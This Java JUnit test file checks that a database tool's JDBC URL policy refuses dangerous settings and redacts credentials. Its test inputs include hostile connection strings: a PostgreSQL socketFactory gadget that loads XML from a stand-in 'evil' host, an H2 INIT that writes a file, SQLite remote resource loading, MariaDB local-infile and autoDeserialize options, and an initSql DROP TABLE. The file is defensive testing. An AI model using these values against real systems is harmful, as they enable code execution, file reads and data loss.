package org.relsync.db.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.relsync.db.Connections;
import org.relsync.db.DatabaseSetup;
import org.relsync.db.JdbcUrls;
import org.relsync.db.ddl.DdlApplier;
import org.relsync.db.ddl.DdlScript;
import org.relsync.db.ddl.DdlService;
import org.relsync.db.ddl.DdlStatement;
import org.relsync.model.Redaction;
import org.relsync.model.RelSyncModel;
import org.relsync.model.project.Project;
import org.relsync.model.relational.Database;
import org.relsync.model.relational.RelationalFactory;
import org.relsync.model.relational.SyncSource;
import org.relsync.sync.catalog.CatalogException;
import org.relsync.sync.edit.EditException;
import org.relsync.testing.MariaDbServer;
import org.relsync.testing.PostgresServer;

/**
 * The URL policy of {@link JdbcUrls}, through {@link Connections#open} and {@link DatabaseSetup#add}
 * on real databases: settings that run code, load classes, read or write files are refused
 * before any connection is made (exit 2 in the CLI: EditException), with a message that names
 * the setting; the settings RelSync allows still connect; credentials are refused and never shown.
 */
@ExtendWith({MariaDbServer.class, PostgresServer.class})
class UrlPolicyTest {

    @TempDir
    Path dir;

    private static Database database(String driver, String url) {
        Database database = RelationalFactory.eINSTANCE.createDatabase();
        database.setName("shop");
        database.setDriverId(driver);
        database.setUrl(url);
        return database;
    }

    private static EditException refused(String driver, String url) {
        return assertThrows(EditException.class, () -> Connections.fromEnvironment().open(database(driver, url)).close(),
                url);
    }

    private static void connects(String driver, String url, String user) throws SQLException {
        Database database = database(driver, url);
        database.setUser(user);
        try (Connection c = Connections.fromEnvironment().open(database, Connections.Access.CREATE);
                Statement s = c.createStatement()) {
            s.execute("SELECT 1");
        }
    }

    @Test
    void h2SettingsThatRunCodeOrWriteFilesAreRefusedByName() throws Exception {
        Path marker = dir.resolve("ran.csv");
        String base = "jdbc:h2:mem:policy";
        EditException init = refused("h2", base + ";INIT=CALL CSVWRITE('" + marker + "', 'SELECT 1')");
        assertTrue(init.getMessage().startsWith("database shop: the URL setting INIT is not allowed (it runs SQL when "
                + "connecting); allowed: MODE, "), init.getMessage());
        assertEquals("database shop: the URL setting INIT is not allowed (it runs SQL when connecting); allowed: MODE, "
                + "DATABASE_TO_UPPER, DATABASE_TO_LOWER, CASE_INSENSITIVE_IDENTIFIERS, IGNORECASE, NON_KEYWORDS, "
                + "DEFAULT_NULL_ORDERING, IFEXISTS, DB_CLOSE_DELAY, DB_CLOSE_ON_EXIT, ACCESS_MODE_DATA, LOCK_TIMEOUT, "
                + "SCHEMA, USER", init.getMessage());
        assertTrue(refused("h2", base + ";mode=Regular;init=SELECT 1").getMessage().contains("setting INIT is not allowed"));
        assertTrue(refused("h2", "jdbc:h2:" + dir.resolve("t") + ";TRACE_LEVEL_FILE=4").getMessage()
                .contains("TRACE_LEVEL_FILE is not allowed (it writes trace files)"));
        assertTrue(refused("h2", "jdbc:h2:" + dir.resolve("t") + ";AUTO_SERVER=TRUE").getMessage()
                .contains("AUTO_SERVER is not allowed"));
        assertTrue(refused("h2", base + ";MODE=Regular\\;INIT=SELECT 1").getMessage().contains("MODE must be"));
        assertTrue(refused("h2", base + ";MODE=Regular X").getMessage().contains("MODE must be a compatibility mode"));
        assertTrue(refused("h2", "jdbc:h2:zip:" + dir.resolve("a.zip") + "!/shop").getMessage()
                .contains("the H2 location zip: is not allowed"));
        assertFalse(Files.exists(marker), "nothing ran");
        assertEquals(List.of(), Files.list(dir).toList(), "no file was made: no connection was tried");

        connects("h2", base + ";MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH;DB_CLOSE_DELAY=-1;"
                + "NON_KEYWORDS=VALUE,USER;mode=PostgreSQL", null);
        connects("h2", "jdbc:h2:" + dir.resolve("ok") + ";USER=sa;CASE_INSENSITIVE_IDENTIFIERS=TRUE;IGNORECASE=TRUE", null);
    }

    @Test
    void postgresqlSettingsThatLoadClassesAreRefused() throws Exception {
        String url = PostgresServer.createDatabase("url_policy");
        assertTrue(url.contains("?user=postgres"), url);
        assertTrue(refused("postgresql", url + "&socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                + "&socketFactoryArg=http://evil/x.xml").getMessage()
                .startsWith("database shop: the URL setting socketFactory is not allowed (it loads a Java class); allowed: user,"));
        assertTrue(refused("postgresql", url + "&sslfactory=x.Y").getMessage().contains("sslfactory is not allowed"));
        assertTrue(refused("postgresql", url + "&loggerFile=/tmp/x.log").getMessage().contains("loggerFile is not allowed"));
        assertTrue(refused("postgresql", url + "&authenticationPluginClassName=x.Y").getMessage()
                .contains("authenticationPluginClassName is not allowed"));
        assertTrue(refused("postgresql", url + "&nonsense=1").getMessage().contains("nonsense is not allowed (RelSync does "
                + "not need it)"));
        assertTrue(refused("postgresql", url + "&sslmode=sideways").getMessage().contains("sslmode must be one of disable"));
        connects("postgresql", url + "&ApplicationName=relsync&sslmode=disable&connectTimeout=5&tcpKeepAlive=true"
                + "&currentSchema=public&targetServerType=any&readOnly=false", null);
    }

    @Test
    void mariadbSettingsThatReadLocalFilesAreRefused() throws Exception {
        String url = MariaDbServer.createDatabase("url_policy");
        assertTrue(refused("mariadb", url + "?allowLocalInfile=true").getMessage()
                .startsWith("database shop: the URL setting allowLocalInfile is not allowed (it lets the server read local "
                        + "files); allowed: user, sslMode, "));
        assertTrue(refused("mariadb", url + "?ALLOWLOADLOCALINFILE=true").getMessage().contains("is not allowed"));
        assertTrue(refused("mariadb", url + "?autoDeserialize=true").getMessage().contains("autoDeserialize is not allowed"));
        assertTrue(refused("mariadb", url + "?socketFactory=x.Y").getMessage().contains("socketFactory is not allowed"));
        assertTrue(refused("mariadb", url + "?initSql=DROP TABLE x").getMessage().contains("initSql is not allowed"));
        assertTrue(refused("mariadb", "jdbc:mariadb://address=(host=localhost)(port=3306)/x").getMessage()
                .contains("malformed"));
        connects("mariadb", url + "?connectTimeout=5000&tcpKeepAlive=true&sslMode=disable&socketTimeout=60000", "root");
    }

    @Test
    void sqliteResourceUrlsAndExtensionLoadingAreRefused() throws Exception {
        assertTrue(refused("sqlite", "jdbc:sqlite::resource:http://evil.example/x.db").getMessage()
                .contains(":resource: is not allowed"));
        assertTrue(refused("sqlite", "jdbc:sqlite:" + dir.resolve("n.db") + "?enable_load_extension=true").getMessage()
                .startsWith("database shop: the URL setting enable_load_extension is not allowed (it lets SQL load native "
                        + "libraries); allowed: mode, "));
        assertTrue(refused("sqlite", "jdbc:sqlite:" + dir.resolve("n.db") + "?open_mode=70").getMessage()
                .contains("open_mode is not allowed"));
        assertTrue(refused("sqlite", "jdbc:sqlite:" + dir.resolve("n.db") + "?mode=ro").getMessage()
                .contains("mode works in a file: URL only"), "sqlite-jdbc would open a file named 'n.db?mode=ro'");
        assertFalse(Files.exists(dir.resolve("n.db")));
        connects("sqlite", "jdbc:sqlite:" + dir.resolve("n.db") + "?busy_timeout=1000&foreign_keys=true&journal_mode=wal", null);
        connects("sqlite", "jdbc:sqlite:file:" + dir.resolve("n.db") + "?mode=ro", null);
    }

    @Test
    void addDbRefusesCredentialsInTheUrlAndSaysWhereTheyGo() {
        Project project = RelSyncModel.newProject("P");
        DatabaseSetup setup = new DatabaseSetup(Connections.fromEnvironment());
        for (var bad : Map.of("h2", "jdbc:h2:mem:c;USER=sa;PASSWORD=hunter22",
                "postgresql", "jdbc:postgresql://localhost:5432/shop?user=me&password=hunter22",
                "mariadb", "jdbc:mariadb://me:hunter22@localhost/shop",
                "sqlite", "jdbc:sqlite:" + dir.resolve("x.db") + "?password=hunter22").entrySet()) {
            EditException e = assertThrows(EditException.class, () -> setup.add(project, new DatabaseSetup.Spec("db",
                    bad.getKey(), bad.getValue(), null, null, List.of(), SyncSource.DATABASE)), bad.getValue());
            assertTrue(e.getMessage().startsWith("database db: the URL holds credentials"), e.getMessage());
            assertTrue(e.getMessage().contains("--password-env VAR"), e.getMessage());
            assertFalse(e.getMessage().contains("hunter22"), e.getMessage());
        }
        assertTrue(project.getDatabases().isEmpty());
        assertFalse(Files.exists(dir.resolve("x.db")));
    }

    @Test
    void aProjectThatAlreadyHoldsAPasswordIsRefusedWithoutPrintingIt() {
        EditException e = refused("postgresql", "jdbc:postgresql://127.0.0.1:1/shop?password=hunter22&user=me");
        assertFalse(e.getMessage().contains("hunter22"), e.getMessage());
        assertTrue(e.getMessage().contains("credentials"), e.getMessage());
        EditException userinfo = refused("postgresql", "jdbc:postgresql://me:hunter22@127.0.0.1:1/shop");
        assertFalse(userinfo.getMessage().contains("hunter22"), userinfo.getMessage());
        EditException wrongPrefix = refused("postgresql", "jdbc:mysql://me:hunter22@127.0.0.1:1/shop?password=hunter22");
        assertFalse(wrongPrefix.getMessage().contains("hunter22"), wrongPrefix.getMessage());
    }

    @Test
    void aPasswordFromTheEnvironmentIsNeverShownEvenWhenTheDriverEchoesIt() throws Exception {
        String secret = "correct-horse-battery";
        Database database = database("h2", "jdbc:h2:mem:echo;DB_CLOSE_DELAY=-1");
        database.setUser("sa");
        database.setPasswordVariable("SHOP_PASSWORD");
        Connections connections = new Connections(Map.of("SHOP_PASSWORD", secret)::get);
        try (Connection c = connections.open(database, Connections.Access.CREATE); Statement s = c.createStatement()) {
            SQLException e = assertThrows(SQLException.class, () -> s.execute("SELEC '" + secret + "'"));
            assertTrue(e.getMessage().contains(secret), "H2 echoes the statement");
            String reason = Connections.reason(e);
            assertFalse(reason.contains(secret), reason);
            assertTrue(reason.contains("***"), reason);
        }
        assertEquals("cannot connect to jdbc:postgresql://***@db/x?user=a&password=***",
                Redaction.redact("cannot connect to jdbc:postgresql://a:b@db/x?user=a&password=hunter22"));
    }

    @Test
    void malformedUrlsAreRefusedBeforeTheDriverLogsAnything() {
        List<LogRecord> records = new ArrayList<>();
        Handler recorder = new Handler() {
            @Override
            public void publish(LogRecord record) {
                records.add(record);
            }

            @Override
            public void flush() {
            }

            @Override
            public void close() {
            }
        };
        Logger postgres = Logger.getLogger("org.postgresql");
        postgres.addHandler(recorder);
        try {
            for (String url : List.of("jdbc:postgresql://[bad", "jdbc:postgresql://h:99999x/db", "jdbc:postgresql://h:99999/db")) {
                EditException e = refused("postgresql", url);
                assertTrue(e.getMessage().startsWith("database shop: the URL is malformed"), e.getMessage());
            }
            assertTrue(refused("mariadb", "jdbc:mariadb://:x").getMessage().contains("malformed"));
            assertTrue(refused("h2", "jdbc:h2:garbage;;=x").getMessage().contains("has no value"));
        } finally {
            postgres.removeHandler(recorder);
        }
        assertEquals(List.of(), records.stream().map(LogRecord::getMessage).toList(), "the driver logged nothing");
    }

    @Test
    void h2MessagesLoseTheirCodesAndTheEmptyStatementPart() throws Exception {
        Database database = database("h2", "jdbc:h2:" + dir.resolve("gone"));
        CatalogException missing = assertThrows(CatalogException.class, () -> Connections.fromEnvironment().open(database));
        assertEquals("shop: no H2 database at " + dir.resolve("gone") + " (.mv.db)", missing.getMessage());
        try (Connection c = Connections.fromEnvironment().open(database(("h2"), "jdbc:h2:mem:m"), Connections.Access.CREATE);
                Statement s = c.createStatement()) {
            SQLException e = assertThrows(SQLException.class, () -> s.execute("SELECT * FROM NOWHERE"));
            String reason = Connections.reason(e);
            assertFalse(reason.contains("SQL statement:"), reason);
            assertFalse(reason.matches(".*\\[\\d+-\\d+\\].*"), reason);
            assertTrue(reason.startsWith("Table \"NOWHERE\" not found"), reason);

            // what ddl --apply says when a statement fails on H2
            DdlScript script = new DdlScript("shop", "h2", DdlScript.Mode.UPDATE, null, List.of(
                    new DdlStatement(DdlStatement.Phase.values()[0], "CREATE TABLE A (ID INT)", null),
                    new DdlStatement(DdlStatement.Phase.values()[0], "ALTER TABLE NOWHERE ADD COLUMN X INT", null)), List.of());
            DdlApplier.Outcome outcome = DdlApplier.apply(c, script, DdlService.kind(database));
            assertEquals("statement 2 of 2 failed: Table \"NOWHERE\" not found; the 1 statement before it took effect, "
                    + "the rest did not run", outcome.summary());
        }
    }
}
